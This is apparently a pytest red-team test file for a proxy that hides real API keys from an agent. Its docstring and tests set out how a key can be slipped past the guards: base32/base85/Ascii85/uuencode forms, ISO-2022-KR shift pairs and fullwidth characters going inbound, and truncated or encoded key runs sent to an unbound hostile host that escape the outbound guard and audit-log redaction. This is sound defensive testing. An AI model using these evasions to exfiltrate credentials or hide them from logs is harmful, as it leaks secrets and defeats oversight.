"""Red team, fifteenth pass: encodings and charsets no form or view reads, and the outbound guard's
lack of runs, against a real ``sandgate proxy`` in the first red team's world (its hostile HTTPS
upstream, bound to ``rthostile``, receives the real key after the swap and answers with whatever it
likes; ``rtapi`` is bound to api.openai.com only, and the hostile host is allowed but unbound for it).

A break is ``xfail(strict=True, raises=AssertionError)``: its fix turns it into a failure to unmark.
What held is a plain test. What the agent got is read as a real client reads it (the stdlib's
decoders, ``requests``' ``str(content, charset)``, ``unicodedata.normalize``).

Fixed on merging (2026-12-04): ``iso-2022-kr-shift-pairs`` -- the shift view drops every SO and SI
too (and the shifts their dropping joins), a passing test below and rows of the encodings table in
tests/proxy/core/test_scrub.py. Fixed later that day: ``stdlib-encodings-no-form`` -- base32 (as
``b32encode`` writes it), base85 and Ascii85 at every alignment, and uuencode where the value fits one
line, are forms of every value (``proxy.core.values._stdlib_forms``; rows and a property test in
tests/proxy/core/test_values.py). A value longer than a uuencoded line (45 bytes) is cut over lines
and is still not read uuencoded (no view decodes uu lines). ``fullwidth-body``: a body with a byte
above 0x7F is also read as a cleaning client reads it, NFKC-folded where it holds letters or digits in
compatibility forms, what is not ASCII dropped (proxy.core.fold; tests/proxy/core/test_fold.py).
``outbound-runs``: the outbound guard (and so the redaction of records and log lines) searches the
runs of every value with 31 or more characters past its prefix (9-character pieces:
``proxy.core.values.outbound_runs_of``); base32 became a form with the first fix.

Breaks (as found):

- ``stdlib-encodings-no-form`` (invariant 3; the WHOLE key): a JSON error body whose ``id`` is the
  key in base32 (``base64.b32encode``), base85 (``b85encode``: git, Mercurial) or Ascii85
  (``a85encode``: PDF, PostScript), or a ``text/plain`` body that is the key uuencoded
  (``binascii.b2a_uu``). Forms are the raw, hex, base64 (std/url, 3 alignments), UTF-16 base64 and
  UTF-7 of the value; none of these four is one, and no view decodes them. One stdlib call each.
- ``iso-2022-kr-shift-pairs`` (3; the whole key): ``Content-Type: text/plain;
  charset=iso-2022-kr``, the body ``ESC $ ) C`` then the key with ``SO SI`` (``\\x0e\\x0f``: shift to
  KS X 1001 and straight back) every 8 characters. The shift view (``_SHIFTS``) drops ESC sequences
  and HZ's ``~{``/``~}`` but not SO/SI, so no view holds a run; ``requests``' ``.text`` (``str(body,
  "iso2022_kr")``) reads the key.
- ``fullwidth-body`` (3; the whole key): a ``text/plain`` body with the key in fullwidth forms
  (U+FF52 ...). Token streams' texts are folded (NFKC), whole bodies are not: a client that
  normalises (search boxes, many LLM tokenisers, ``unicodedata.normalize("NFKC")``) or a human
  reading the rendered page gets the key. Same gap as red team 14's ``zero-width-interleaved-body``
  (format characters), another form of it.
- ``outbound-runs`` (invariants 1/2 and 3; 40 of 41 characters, or the whole key in base32): the
  outbound guard (``Runtime.outbound``, also what redacts the audit log and stderr) is built without
  runs (``Finder.for_values(..., runs=True)`` is used for bound hosts' responses only) and with the
  same forms as above. An agent holding a real value (from any of the breaks here, or the tracked
  short-pieces limit) sends ``rtapi``'s key less its last character in a path, or less its first
  five in a header, or the whole key base32-encoded in a query, to a host the key is NOT bound to:
  all forwarded (the whole key is refused, ``secret_value_outbound``), and the path, a run of 40
  characters, is written to the audit log as it is (a whole value there would be
  ``[redacted:rtapi]``). The last character is one guess in 16.

Fixes: add base32 (5 alignments), base85/Ascii85 (4 alignments) and uuencode (a line's length
character then 4-for-3 with its own alphabet: 3 alignments) forms of each value and of its runs; a
shift view that also drops SO/SI when an ISO-2022 designator (``ESC $ ) C``) or a declared
``iso-2022-*`` charset is there; read whole bodies NFKC-folded as token-stream texts are; build the
outbound guard (and the redaction of records and logs) with runs, as bound hosts' finders are.

Held (passing tests): an upstream's own ``100 Continue`` carrying the whole key (dropped: the proxy
answers Expect itself) and a ``102 Processing`` carrying a 20-character upper-cased run (refused,
502 ``secret_value_inbound``); a target whose fragment holds a ``query: true`` placeholder in its
query (``/p#?k=<placeholder>``) is refused 400 before the swap, nothing goes upstream.
"""

from __future__ import annotations

import base64
import binascii
import contextlib
import json
import re
import time
import unicodedata
from collections.abc import Callable

import pytest

from tests.conftest import needs_root
from tests.proxy import test_redteam as world
from tests.proxy.core.test_runs import longest_run
from tests.proxy.test_redteam import API, HOST, HOSTILE_NAME, QUERY, _respond, ask, dechunk, fetch, get
from tests.support.hostile import HostileServer, Request, Wire
from tests.support.proxyproc import ProxyProcess

pytestmark = needs_root

hostile_ca, hostile, rt = world.hostile_ca, world.hostile, world.rt

RUN = 16


def agent_body(raw: bytes) -> bytes:
    head, _, rest = raw.partition(b"\r\n\r\n")
    return dechunk(raw) if b"transfer-encoding: chunked" in head.lower() else rest


def serve(hostile: HostileServer, path: str, ctype: str, make: Callable[[str], bytes], extra: str = "") -> None:
    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        await w.send(_respond(f"Content-Type: {ctype}\r\n{extra}", make(req.token)))


def answer(rt: ProxyProcess, hostile: HostileServer, path: str, ctype: str, make: Callable[[str], bytes]) -> bytes:
    """The hostile upstream answers ``path`` with ``make(its key)``; the body the agent got of it
    (empty when the proxy refused the answer)."""
    serve(hostile, path, ctype, make)
    raw = fetch(rt, path)
    return agent_body(raw) if raw.startswith(b"HTTP/1.1 200") else b""


def _json_id(encode: Callable[[bytes], bytes]) -> Callable[[str], bytes]:
    return lambda t: json.dumps({"error": "invalid_api_key", "id": encode(t.encode()).decode()}).encode()


def _read_id(decode: Callable[[str], bytes]) -> Callable[[bytes], bytes]:
    return lambda body: decode(json.loads(body)["id"])


# (Content-Type, what the upstream writes of the key, how a client reads the body)
ENCODINGS: dict[str, tuple[str, Callable[[str], bytes], Callable[[bytes], bytes]]] = {
    "base32": ("application/json", _json_id(base64.b32encode), _read_id(base64.b32decode)),
    "base85": ("application/json", _json_id(base64.b85encode), _read_id(base64.b85decode)),
    "ascii85": ("application/json", _json_id(base64.a85encode), _read_id(base64.a85decode)),
    "uuencode": ("text/plain", lambda t: binascii.b2a_uu(t.encode()), binascii.a2b_uu),
}


@pytest.mark.parametrize("name", list(ENCODINGS))
def test_stdlib_encodings_no_form(rt: ProxyProcess, hostile: HostileServer, name: str) -> None:
    ctype, make, read = ENCODINGS[name]
    body = answer(rt, hostile, f"/rt15/enc-{name}", ctype, make)
    assert longest_run(read(body) if body else b"", HOST.real) < RUN, f"the key reached the agent in {name}"


def test_iso_2022_kr_shift_pairs(rt: ProxyProcess, hostile: HostileServer) -> None:
    path = "/rt15/iso-2022-kr"

    def make(t: str) -> bytes:
        return b"\x1b$)C" + b"\x0e\x0f".join(t[i : i + 8].encode() for i in range(0, len(t), 8))

    body = answer(rt, hostile, path, "text/plain; charset=iso-2022-kr", make)
    # requests' Response.text: str(content, encoding, errors="replace"), the charset from the label
    assert longest_run(str(body, "iso2022_kr", "replace").encode(), HOST.real) < RUN


def test_fullwidth_body(rt: ProxyProcess, hostile: HostileServer) -> None:
    body = answer(
        rt,
        hostile,
        "/rt15/fullwidth",
        "text/plain; charset=utf-8",
        lambda t: ("Your key: " + "".join(chr(ord(c) + 0xFEE0) for c in t) + "\n").encode(),
    )
    text = body.decode("utf-8", "replace")
    assert longest_run(unicodedata.normalize("NFKC", text).encode(), HOST.real) < RUN


def _outbound_request(shape: str) -> tuple[str, bytes]:
    """(path as recorded, the request): rtapi's real value, in part or encoded, toward the hostile
    host (allowed, but rtapi is bound to api.openai.com only)."""
    if shape == "truncated-in-path":
        path = f"/rt15/out/{API.real[:-1]}"
        return path, get(path)
    if shape == "run-in-header":
        path = "/rt15/out/header"
        return path, get(path, f"X-Note: {API.real[5:]}")
    path = "/rt15/out/b32"
    return path, get(f"{path}?q={base64.b32encode(API.real.encode()).decode()}")


def _agent_run(text: bytes) -> int:
    """The longest run of rtapi's key in ``text``, base32 runs decoded (as the receiver decodes)."""
    decoded = []
    for m in re.finditer(rb"[A-Z2-7]{32,}=*", text):
        with contextlib.suppress(binascii.Error):
            decoded.append(base64.b32decode(m.group(0)))
    return longest_run(b"\n".join([text, *decoded]), API.real)


@pytest.mark.parametrize("shape", ["truncated-in-path", "run-in-header", "base32-in-query"])
def test_outbound_runs(rt: ProxyProcess, hostile: HostileServer, shape: str) -> None:
    # Whole, the value is refused (secret_value_outbound) and redacted in the record: the baseline.
    whole = ask(rt, HOSTILE_NAME, get(f"/rt15/out/{API.real}"))
    assert whole.status == 403 and whole.reason == "secret_value_outbound"
    _, request = _outbound_request(shape)
    before, recorded = len(hostile.requests), len(rt.audit())
    reply = ask(rt, HOSTILE_NAME, request)
    time.sleep(0.3)
    upstream = b"".join(r.raw_head + r.body for r in hostile.requests[before:])
    # (the record of this request: its path as recorded, a run of the key redacted)
    records = json.dumps([r for r in rt.audit()[recorded:] if r.get("reason") == reply.reason]).encode()
    assert records != b"[]", "the request was recorded"
    assert (reply.status, reply.reason) == (403, "secret_value_outbound")
    assert _agent_run(upstream) < RUN, f"{shape}: rtapi's key (in part or encoded) reached an unbound host"
    assert _agent_run(records) < RUN, f"{shape}: a run of rtapi's key was written to the audit log"


# ---------------------------------------------------------------------------------------- held


def test_upstream_interim_heads_carrying_the_key(rt: ProxyProcess, hostile: HostileServer) -> None:
    """The upstream's own 100 (the proxy answers Expect itself) with the whole key, then a 102
    with an upper-cased 20-character run: the 100 is dropped, the 102 refused."""
    path = "/rt15/interim"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        t = req.token
        await w.send(f"HTTP/1.1 100 Continue\r\nX-K: {t}\r\n\r\n".encode())
        await w.send(f"HTTP/1.1 102 Processing\r\nX-K: {t[:20].upper()}\r\n\r\n".encode())
        await w.send(_respond("", b"ok"))

    raw = fetch(rt, path)
    assert longest_run(raw, HOST.real) < RUN
    assert raw.startswith(b"HTTP/1.1 502") and b"secret_value_inbound" in raw


def test_query_placeholder_behind_a_fragment_is_refused_before_the_swap(
    rt: ProxyProcess, hostile: HostileServer
) -> None:
    """``/p#?k=<placeholder>``: a swap here would put the real value where a URL parser reads a
    fragment (no slot). The target is refused; nothing goes upstream."""
    before = len(hostile.requests)
    target = f"/rt15/frag#?k={QUERY.placeholder}"
    reply = ask(
        rt, HOSTILE_NAME, f"GET {target} HTTP/1.1\r\nHost: {HOSTILE_NAME}\r\nConnection: close\r\n\r\n".encode()
    )
    assert reply.status == 400 and reply.reason == "malformed_request"
    assert not hostile.requests[before:]
